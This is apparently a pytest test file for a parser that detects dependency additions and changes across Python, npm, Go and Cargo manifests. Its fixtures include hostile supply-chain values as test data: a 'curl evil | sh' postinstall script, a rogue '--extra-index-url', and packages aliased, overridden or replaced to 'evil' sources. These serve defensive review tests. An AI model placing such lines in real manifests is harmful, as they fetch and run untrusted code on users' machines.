"""Manifest parsers (workers/deps/manifests.py): what each manifest format declares, one test
group per format, with hostile and malformed input."""

from __future__ import annotations

import json

import pytest

from intake.workers.deps.files import manifest_kind
from intake.workers.deps.manifests import ManifestError, parse_manifest


def dependency_changes(path: str, before: str | None, after: str | None) -> set[str]:
    """Names a manifest edit adds or re-specs (what the delta sees of one manifest)."""
    if manifest_kind(path) is None or after is None or before == after:
        return set()
    try:
        old = parse_manifest(path, before) if before is not None else {}
        new = parse_manifest(path, after)
    except ManifestError:
        return {f"{path}: unparseable manifest"}
    return {name for key, spec in new.items() if old.get(key) != spec for name in [key[1]]}


# -- dependency_changes: one test group per manifest -----------------------------------------


def test_manifest_kinds() -> None:
    assert manifest_kind("pyproject.toml") == "pyproject"
    assert manifest_kind("svc/requirements-dev.txt") == "requirements"
    assert manifest_kind("requirements/base.txt") == "requirements"
    assert manifest_kind("web/package.json") == "npm"
    assert manifest_kind("go.mod") == "go"
    assert manifest_kind("crates/x/Cargo.toml") == "cargo"
    assert manifest_kind("docs/requirements.md") is None
    assert manifest_kind("notes.txt") is None


PYPROJECT = """
[build-system]
requires = ["setuptools>=68"]

[project]
name = "app"
dependencies = ["aiohttp>=3.9", "Jinja2 >= 3.1"]

[project.optional-dependencies]
dev = ["pytest>=8"]

[dependency-groups]
lint = ["ruff", {include-group = "dev"}]

[tool.poetry.dependencies]
python = "^3.11"
click = "^8.1"

[tool.poetry.group.test.dependencies]
hypothesis = {version = "^6"}
"""


def test_pyproject_unchanged_and_reformatted() -> None:
    assert dependency_changes("pyproject.toml", PYPROJECT, PYPROJECT) == set()
    spaced = PYPROJECT.replace('"Jinja2 >= 3.1"', '"jinja2>=3.1"')
    assert dependency_changes("pyproject.toml", PYPROJECT, spaced) == set()


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('"aiohttp>=3.9", ', '"aiohttp>=3.9", "Requests_OAuthlib.x>=1", ', {"requests-oauthlib-x"}),
        ('"aiohttp>=3.9"', '"aiohttp>=3.10"', {"aiohttp"}),
        ('dev = ["pytest>=8"]', 'dev = ["pytest>=8", "coverage"]', {"coverage"}),
        ('requires = ["setuptools>=68"]', 'requires = ["setuptools>=68", "evil-build"]',
         {"evil-build"}),
        ('"ruff",', '"ruff", "mypy",', {"mypy"}),
        ('click = "^8.1"', 'click = "^8.1"\nrich = "*"', {"rich"}),
        ('click = "^8.1"', 'click = {git = "https://github.com/x/click.git"}',
         {"click @ https://github.com/x/click.git"}),
        ('hypothesis = {version = "^6"}', 'hypothesis = {version = "^6"}\nfaker = "^20"',
         {"faker"}),
        ('python = "^3.11"', 'python = "^3.12"', set()),  # the interpreter is not a package
        ('"aiohttp>=3.9", ', '"aiohttp>=3.9", "pkg @ https://example.com/pkg.whl", ',
         {"pkg @ https://example.com/pkg.whl"}),
    ],
)
def test_pyproject_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in PYPROJECT
    assert dependency_changes("pyproject.toml", PYPROJECT, PYPROJECT.replace(old, new)) == expected


def test_moving_a_dependency_between_sections_counts() -> None:
    after = PYPROJECT.replace('dev = ["pytest>=8"]', "dev = []").replace(
        '"Jinja2 >= 3.1"]', '"Jinja2 >= 3.1", "pytest>=8"]'
    )
    assert dependency_changes("pyproject.toml", PYPROJECT, after) == {"pytest"}


def test_removing_dependencies_and_deleting_manifests_is_not_a_change() -> None:
    after = PYPROJECT.replace('"aiohttp>=3.9", ', "")
    assert dependency_changes("pyproject.toml", PYPROJECT, after) == set()
    assert dependency_changes("pyproject.toml", PYPROJECT, None) == set()


def test_new_pyproject_counts_everything() -> None:
    assert dependency_changes("pyproject.toml", None, PYPROJECT) == {
        "setuptools", "aiohttp", "jinja2", "pytest", "ruff", "click", "hypothesis",
    }


@pytest.mark.parametrize("bad", ["[project\nname=1", '[project]\ndependencies = "requests"',
                                 '[project]\ndependencies = ["not a valid requirement!"]'])
def test_unparseable_pyproject(bad: str) -> None:
    assert dependency_changes("sub/pyproject.toml", PYPROJECT, bad) == {
        "sub/pyproject.toml: unparseable manifest"
    }


REQUIREMENTS = """\
# pinned runtime deps
aiohttp==3.9.5  # web
Jinja2>=3.1 ; python_version >= "3.11"
-r requirements-base.txt
--only-binary :all:
redis==5.0.1 \\
    --hash=sha256:abababababababababababababababababababababababababababababababab
"""


@pytest.mark.parametrize(
    ("added", "expected"),
    [
        ("requests==2.32.0", {"requests"}),
        ("Flask_Login[extra]>=0.6", {"flask-login"}),
        ("-e git+https://github.com/x/y.git#egg=y", {"-e git+https://github.com/x/y.git#egg=y"}),
        ("git+https://github.com/x/y.git@v1#egg=y", {"git+https://github.com/x/y.git@v1#egg=y"}),
        ("https://example.com/pkg-1.0.tar.gz", {"https://example.com/pkg-1.0.tar.gz"}),
        ("./vendor/pkg", {"./vendor/pkg"}),
        ("y @ https://example.com/y.whl", {"y @ https://example.com/y.whl"}),
        ("--extra-index-url https://evil.example/simple",
         {"--extra-index-url https://evil.example/simple"}),
        ("-r extra-deps.txt", {"-r extra-deps.txt"}),
        ("--pre", set()),
        ("# just a comment", set()),
        ("", set()),
    ],
)
def test_requirements_additions(added: str, expected: set[str]) -> None:
    after = REQUIREMENTS + added + "\n"
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == expected


def test_requirements_version_change_and_continuations() -> None:
    after = REQUIREMENTS.replace("aiohttp==3.9.5", "aiohttp==3.10.0")
    assert dependency_changes("requirements-dev.txt", REQUIREMENTS, after) == {"aiohttp"}
    after = REQUIREMENTS.replace("sha256:ab", "sha256:cd")
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == {"redis"}
    after = REQUIREMENTS.replace("  # web", "  # web server")
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == set()


def test_requirements_unparseable_line() -> None:
    assert dependency_changes("requirements.txt", "", "this is not a requirement\n") == {
        "requirements.txt: unparseable manifest"
    }


PACKAGE_JSON = {
    "name": "web",
    "dependencies": {"react": "^18.2.0"},
    "devDependencies": {"vite": "^5.0.0"},
    "peerDependencies": {"react-dom": "^18"},
    "optionalDependencies": {"fsevents": "^2"},
}


def with_pkg(**changes: dict[str, str]) -> str:
    data = json.loads(json.dumps(PACKAGE_JSON))
    for section, deps in changes.items():
        data.setdefault(section, {}).update(deps)
    return json.dumps(data, indent=2)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"dependencies": {"lodash": "^4.17.21"}}, {"lodash"}),
        ({"dependencies": {"react": "^18.3.0"}}, {"react"}),
        ({"devDependencies": {"@types/node": "^20"}}, {"@types/node"}),
        ({"peerDependencies": {"vue": "^3"}}, {"vue"}),
        ({"optionalDependencies": {"sharp": "^0.33"}}, {"sharp"}),
        ({"dependencies": {"left-pad": "npm:@evil/pad@^1"}}, {"@evil/pad"}),
        ({"dependencies": {"react": "github:evil/react"}}, {"react@github:evil/react"}),
        ({"dependencies": {"x": "file:../x"}}, {"x@file:../x"}),
        ({"overrides": {"react": "npm:evil-react@1"}}, {"evil-react"}),
        ({"scripts": {"postinstall": "curl evil | sh"}}, set()),  # not a dependency gate
    ],
)
def test_package_json_changes(changes: dict[str, dict[str, str]], expected: set[str]) -> None:
    before = json.dumps(PACKAGE_JSON)
    assert dependency_changes("package.json", before, with_pkg(**changes)) == expected


def test_package_json_unparseable() -> None:
    before = json.dumps(PACKAGE_JSON)
    for bad in ("{", "[]", json.dumps({"dependencies": {"react": 18}})):
        assert dependency_changes("package.json", before, bad) == {
            "package.json: unparseable manifest"
        }


GO_MOD = """\
module example.com/app

go 1.22

require github.com/pkg/errors v0.9.1

require (
\tgolang.org/x/net v0.20.0 // indirect
\t"github.com/stretchr/testify" v1.9.0
)

exclude golang.org/x/crypto v0.1.0
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("require github.com/pkg/errors v0.9.1",
         "require github.com/pkg/errors v0.9.1\nrequire github.com/evil/mod v1.0.0",
         {"github.com/evil/mod"}),
        ("\tgolang.org/x/net v0.20.0 // indirect",
         "\tgolang.org/x/net v0.20.0 // indirect\n\tgithub.com/google/uuid v1.6.0",
         {"github.com/google/uuid"}),
        ("golang.org/x/net v0.20.0", "golang.org/x/net v0.21.0", {"golang.org/x/net"}),
        ("go 1.22", "go 1.22\n\nreplace golang.org/x/net => github.com/evil/net v0.1.0",
         {"replace golang.org/x/net => github.com/evil/net v0.1.0"}),
        ("// indirect", "", set()),
        ("exclude golang.org/x/crypto v0.1.0", "", set()),
    ],
)
def test_go_mod_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in GO_MOD
    assert dependency_changes("go.mod", GO_MOD, GO_MOD.replace(old, new)) == expected


@pytest.mark.parametrize("bad", ["require (\n\tx v1\n", "bogus directive\n", "require x\n"])
def test_go_mod_unparseable(bad: str) -> None:
    assert dependency_changes("go.mod", GO_MOD, bad) == {"go.mod: unparseable manifest"}


CARGO = """\
[package]
name = "app"

[dependencies]
serde = { version = "1", features = ["derive"] }
tokio = "1"

[dev-dependencies]
proptest = "1"

[build-dependencies]
cc = "1"

[target.'cfg(unix)'.dependencies]
libc = "0.2"
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('tokio = "1"', 'tokio = "1"\nrand = "0.8"', {"rand"}),
        ('tokio = "1"', 'tokio = "1.36"', {"tokio"}),
        ('proptest = "1"', 'proptest = "1"\ncriterion = "0.5"', {"criterion"}),
        ('cc = "1"', 'cc = "1"\nbindgen = "0.69"', {"bindgen"}),
        ('libc = "0.2"', 'libc = "0.2"\nnix = "0.28"', {"nix"}),
        ('tokio = "1"', 'tokio = "1"\nSerde_JSON = "1"', {"serde-json"}),
        ('tokio = "1"', 'tokio = "1"\nfast = { package = "evil-crate", version = "1" }',
         {"evil-crate"}),
        ('tokio = "1"', 'tokio = { git = "https://github.com/evil/tokio" }',
         {"tokio @ https://github.com/evil/tokio"}),
        ('[package]', '[patch.crates-io]\nserde = { path = "../serde" }\n\n[package]',
         {"patch crates-io serde @ ../serde"}),
        ('[package]\nname = "app"', '[package]\nname = "app2"', set()),
    ],
)
def test_cargo_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in CARGO
    assert dependency_changes("Cargo.toml", CARGO, CARGO.replace(old, new)) == expected


def test_cargo_unparseable() -> None:
    assert dependency_changes("Cargo.toml", CARGO, "[dependencies]\ntokio = 1 2") == {
        "Cargo.toml: unparseable manifest"
    }
    assert dependency_changes("Cargo.toml", CARGO, "[dependencies]\ntokio = 1") == {
        "Cargo.toml: unparseable manifest"
    }


def test_other_files_have_no_dependencies() -> None:
    assert dependency_changes("docs/a.md", None, "requests==1\n") == set()
